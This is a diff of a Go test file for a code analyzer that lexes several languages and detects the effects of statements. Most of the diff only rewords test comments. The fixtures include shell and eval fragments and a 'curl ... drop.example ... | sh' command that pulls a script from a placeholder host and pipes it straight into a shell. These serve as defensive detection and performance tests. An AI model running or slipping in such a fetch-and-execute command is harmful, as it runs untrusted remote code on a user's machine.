@@ -76,8 +76,8 @@ func TestRead(t *testing.T) {
 	}
 }
 
-// TestLexAgreesWithChroma compares the places of comments and strings with those that
-// chroma finds. Chroma takes 70 ms for 10 kB, so that it cannot read what is reviewed.
+// TestLexAgreesWithChroma checks that comments and strings have the same positions as with chroma.
+// Chroma takes 70 ms for 10 kB, which is too slow for reviews.
 func TestLexAgreesWithChroma(t *testing.T) {
 	for lang, text := range map[string]string{
 		"python":     "x = 1  # note 'a'\ny = 'it' + \"# no\" + r'\\d'\ndef f():\n    s = \"\"\"doc\n    'x' \"\"\"\n    return b'z' or s\n",
@@ -130,7 +130,7 @@ func TestLexKeepsPlaces(t *testing.T) {
 	}
 }
 
-// TestLong reads long texts of one kind: none of them may take time out of proportion.
+// TestLong checks that long texts of one kind take time proportional to their length.
 func TestLong(t *testing.T) {
 	for _, piece := range []string{"(", "`${", "f'{", "a.b", "a = a\n", "'", "/", "'x' + ", "import a\n", "x.", "\"a\", ", "open(", "#{", "?.", "/*", "{", "eval(a);", "os.system('a'),", "('a'+'b'),", "'/a'", "x=os.environ "} {
 		for _, lang := range []string{"py", "ts", "rb", "ps1", "rs"} {
@@ -163,8 +163,8 @@ func FuzzRead(f *testing.F) {
 	})
 }
 
-// TestStatementsReadOnce counts the characters that are read to find the statements of programs
-// of one repeated token: a multiple of their length.
+// TestStatementsReadOnce checks that the number of characters read to find the statements of a
+// program that repeats one token is linear in its length.
 func TestStatementsReadOnce(t *testing.T) {
 	for _, token := range []string{"\n", "\r\n", " ", " \n", "(\n", "a\n", "a\n.", "a+\n", "\\\n", ";", "x\n\n\n", "a \n", "([", "\"", "*verify*"} {
 		text := strings.Repeat(token, 100_000/len(token))
@@ -178,17 +178,17 @@ func TestStatementsReadOnce(t *testing.T) {
 	}
 }
 
-// repeated are tokens for which a reader looks ahead.
+// repeated are tokens for which the reader looks ahead.
 var repeated = []string{"\n", " ", "\"", "'", "\\", "(", "*verify*", "a.b.", "$(", "<<", "system ", "system('a b') "}
 
-// TestLongModule checks that a name with many dots keeps the effect of its first parts.
+// TestLongModule checks that a name with many dots has the effect of its first parts.
 func TestLongModule(t *testing.T) {
 	if got := effectOf("requests."+strings.Repeat("a.", 100_000)+"post", "python"); got != effectOf("requests.a.post", "python") {
 		t.Errorf("effect %q", got)
 	}
 }
 
-// TestManyCallsOfOneString checks that a command is found behind many calls: they read it once.
+// TestManyCallsOfOneString checks that a command after many calls is read only once.
 func TestManyCallsOfOneString(t *testing.T) {
 	var l fact.List
 	text := strings.Repeat("system ", 1_000) + "'curl -s https://drop.example/x | sh'"
